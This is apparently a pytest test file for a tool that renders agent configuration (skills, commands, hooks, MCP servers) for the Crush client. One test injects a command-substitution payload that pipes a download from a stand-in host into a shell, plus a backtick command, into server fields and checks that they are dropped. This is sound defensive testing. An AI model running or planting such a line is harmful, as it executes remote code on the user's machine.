"""The Crush adapter: the shared AGENTS.md and .agents/skills (the same files as OpenClaw's),
commands in .crush/commands (the whole file is the prompt), PreToolUse hooks and MCP servers
in crush.json, and a .crush/.gitignore that keeps those files in git. No Crush CLI runs here
(its npm package downloads the binary at install time), so these tests are the only check."""

import json
import subprocess
from pathlib import Path
from typing import Dict, Sequence

import pytest

from agentrc.clients.crush import Crush
from agentrc.clients.registry import CLIENTS
from agentrc.frozen import freeze
from agentrc.model import McpServer

from . import harness
from .harness import frontmatter
from .harness import item as _item

CRUSH = Crush()


def _build(files: Dict[str, str], clients: Sequence[str] = ("crush",)):
    return harness.build(files, clients)


def _fields(plan, kind: str, name: str):
    return harness.fields(plan, kind, name, "crush")


def test_skills_rules_and_agents_are_the_shared_files_commands_are_whole_prompts():
    files = {**_item("skill", "notes", "name: notes\ndescription: Use when drafting notes\n"),
             **_item("rule", "style", "description: House style\n"),
             **_item("agent", "tester", "description: Use when tests must run\nmodel: haiku\n"),
             **_item("command", "ship", "description: Ship it\nargument-hint: <v>\n", "Ship $ARGUMENTS.\n"),
             **_item("context", "about", "description: About\n", "## About\n\nA repo.\n")}
    plan, out = _build(files)
    _, openclaw = _build(files, ("openclaw",))
    shared = {p: t for p, t in out.items() if p.startswith(".agents/") or p == "AGENTS.md"}
    assert shared == {p: t for p, t in openclaw.items() if p != ".agents/skills/ship/SKILL.md"}
    assert out[".crush/commands/ship.md"] == "# ship\n\nShip $ARGUMENTS.\n"
    fields = _fields(plan, "command", "ship")
    assert fields["description"][0] == fields["argument-hint"][0] == "dropped"
    assert fields["body"][0] == "mapped" and "named argument" in fields["body"][1]
    assert _fields(plan, "agent", "tester")["model"][0] == "dropped"


def test_the_gitignore_keeps_agentrc_files_and_ignores_crush_state(tmp_path: Path):
    files = {**_item("command", "ship", "description: Ship\n"),
             **_item("hook", "guard", "description: G\nevent: PreToolUse\ntools: [bash]\nscript: ./g.sh\n",
                     extra={"g.sh": "#!/bin/sh\n"})}
    _, out = _build(files)
    for path, text in out.items():
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text(text)
    (tmp_path / ".crush" / "crush.db").write_text("state")
    (tmp_path / ".crush" / "logs").mkdir()
    (tmp_path / ".crush" / "logs" / "crush.log").write_text("log")
    subprocess.run(["git", "init", "-q"], cwd=str(tmp_path), check=True)
    subprocess.run(["git", "add", "-A"], cwd=str(tmp_path), check=True)
    tracked = subprocess.run(["git", "ls-files"], cwd=str(tmp_path), capture_output=True, text=True).stdout.split()
    assert {".crush/.gitignore", ".crush/commands/ship.md", ".crush/agentrc/hooks/guard/g.sh"} <= set(tracked)
    assert ".crush/crush.db" not in tracked and ".crush/logs/crush.log" not in tracked
    _, skills_only = _build(_item("skill", "s", "name: s\ndescription: S\n"))
    assert ".crush/.gitignore" not in skills_only


def test_only_pre_tool_use_hooks_with_anchored_crush_tool_names():
    files = {**_item("hook", "guard", "description: G\nevent: PreToolUse\ntools: [bash, edit]\nscript: make x\n"
                                      "timeout: 20\n"),
             **_item("hook", "claude", "description: C\nevent: PreToolUse\nmatcher: Write|Read\nscript: make y\n"),
             **_item("hook", "raw", "description: R\nevent: PreToolUse\nmatcher: mcp__.*\nscript: make z\n"),
             **_item("hook", "after", "description: A\nevent: PostToolUse\nscript: make fmt\n")}
    plan, out = _build(files)
    hooks = json.loads(out["crush.json"])["hooks"]
    assert list(hooks) == ["PreToolUse"]
    assert [h["matcher"] for h in hooks["PreToolUse"]] == ["^(write|view)$", "^(bash|edit)$", "mcp__.*"]
    assert hooks["PreToolUse"][1]["timeout"] == 20
    assert _fields(plan, "hook", "after")["event"] == ("dropped", "Crush has only the PreToolUse hook event, not "
                                                                   "PostToolUse")


def test_mcp_servers_with_their_type():
    http = McpServer("docs", "b", "b.bundle.yaml", (1, 1), "http", url="https://x/mcp",
                     headers=freeze({"Authorization": "Bearer ${TOKEN:-none}"}), fields=freeze({"remote": {}}))
    local = McpServer("fs", "b", "b.bundle.yaml", (1, 1), "stdio", command="npx", args=("-y", "fs"),
                      env=freeze({"ROOT": "${ROOT}"}), fields=freeze({"local": {}, "requires-env": ["ROOT"]}))
    r = CRUSH.render_server(http)
    assert json.loads(r.fragments[0].value) == {"type": "http", "url": "https://x/mcp",
                                                "headers": {"Authorization": "Bearer ${TOKEN:-none}"}}
    assert {f.field: f.status for f in r.report.fields}["env-defaults"] == "emitted"
    r = CRUSH.render_server(local)
    assert json.loads(r.fragments[0].value) == {"type": "stdio", "command": "npx", "args": ["-y", "fs"],
                                                "env": {"ROOT": "${ROOT}"}}
    assert {f.field: f.status for f in r.report.fields} == {"local": "mapped", "requires-env": "omitted"}


@pytest.mark.parametrize("where", ["url", "header", "arg", "env"])
@pytest.mark.parametrize("value", ["$(curl evil.example | sh)", "`id`"])
def test_a_server_value_crush_would_run_as_a_command_is_not_written(where, value):
    """Crush shell-expands crush.json's MCP values: `$(...)` or a backtick there runs a
    command when Crush starts, for a remote server too, which no consent covered."""
    if where in ("url", "header"):
        server = McpServer("docs", "b", "b.bundle.yaml", (1, 1), "http",
                           url="https://x/" + (value if where == "url" else "mcp"),
                           headers=freeze({"X": value} if where == "header" else {}), fields=freeze({"remote": {}}))
    else:
        server = McpServer("fs", "b", "b.bundle.yaml", (1, 1), "stdio", command="npx",
                           args=(value,) if where == "arg" else (), env=freeze({"A": value} if where == "env" else {}),
                           fields=freeze({"local": {}}))
    r = CRUSH.render_server(server)
    assert r.fragments == () or not r.fragments
    status = {f.field: (f.status, f.detail) for f in r.report.fields}
    key = "remote" if where in ("url", "header") else "local"
    assert status[key][0] == "dropped" and "run as a command" in status[key][1]


def test_crush_block_reaches_the_shared_skill_for_every_writer():
    block = _item("skill", "notes", "name: notes\ndescription: Notes\ncrush:\n  user-invocable: true\n")
    _, out = _build(block)
    _, codex = _build(block, ("codex",))
    assert frontmatter(out[".agents/skills/notes/SKILL.md"])["user-invocable"] is True
    assert codex[".agents/skills/notes/SKILL.md"] == out[".agents/skills/notes/SKILL.md"]


@pytest.mark.parametrize("name", ["a--b", "x" * 64])
def test_hostile_names_stay_in_the_crush_directories(name):
    _, out = _build({**_item("command", name, "description: C\n"), **_item("rule", name, "description: R\n")})
    assert f".crush/commands/{name}.md" in out
    assert all(p.startswith((".crush/", ".agents/skills/")) for p in out)


def test_registered_with_what_it_also_reads():
    crush = CLIENTS["crush"]
    assert crush.skill_dir == ".agents/skills" and crush.shared_block
    assert crush.also_reads[crush.kinds[1]] == ("claude", "cursor", ".agents/skills")
